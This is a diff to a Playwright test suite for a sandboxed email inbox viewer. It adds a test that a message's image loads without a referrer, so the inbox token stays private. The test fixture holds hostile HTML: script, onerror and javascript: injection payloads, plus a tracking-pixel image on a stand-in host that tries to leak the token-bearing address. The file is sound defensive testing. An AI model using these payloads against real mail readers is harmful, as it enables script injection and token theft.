@@ -5,12 +5,13 @@ from pathlib import Path
 
 import boto3
 import pytest
-from playwright.sync_api import Browser, Page, expect
+from playwright.sync_api import Browser, Page, Route, expect
 
 from engine.sandbox.embedded import run_in_thread
 from engine.sandbox.server import SandboxSettings
 
-HOSTILE = """<p>Hello</p><script>parent.document.title = "owned"</script>
+HOSTILE = """<meta name="referrer" content="unsafe-url"><p>Hello</p><script>parent.document.title = "owned"</script>
+<img src="https://pixel.example/1" referrerpolicy="unsafe-url">
 <img src="x" onerror="parent.document.title='owned'"><a href="javascript:parent.document.title='owned'">link</a>
 """
 
@@ -39,7 +40,7 @@ def inbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
                 Content={"Simple": content},
             )
         client.close()
-        yield server.url
+        yield server.inbox_url.removesuffix("/")
 
 
 @pytest.fixture
@@ -78,3 +79,19 @@ def test_a_hostile_message_runs_nothing(page: Page, inbox: str, tmp_path: Path):
     body.get_by_role("link", name="link").click()
     page.screenshot(path=tmp_path / "inbox.png")
     assert "owned" not in page.title()
+
+
+def test_a_hostile_message_does_not_learn_the_address_of_the_inbox(page: Page, inbox: str):
+    """The address holds the token; an image of a message is asked for without a referrer, whatever the message says."""
+    asked: list[dict[str, str]] = []
+
+    def answer(route: Route) -> None:
+        asked.append(route.request.all_headers())
+        route.abort()
+
+    page.route("https://pixel.example/*", answer)
+    for path in ("/messages/1", "/messages/1/html"):
+        page.goto(inbox + path)
+        page.wait_for_load_state("load")
+    assert len(asked) == 2
+    assert not any(inbox.rpartition("/")[2] in str(headers) for headers in asked)
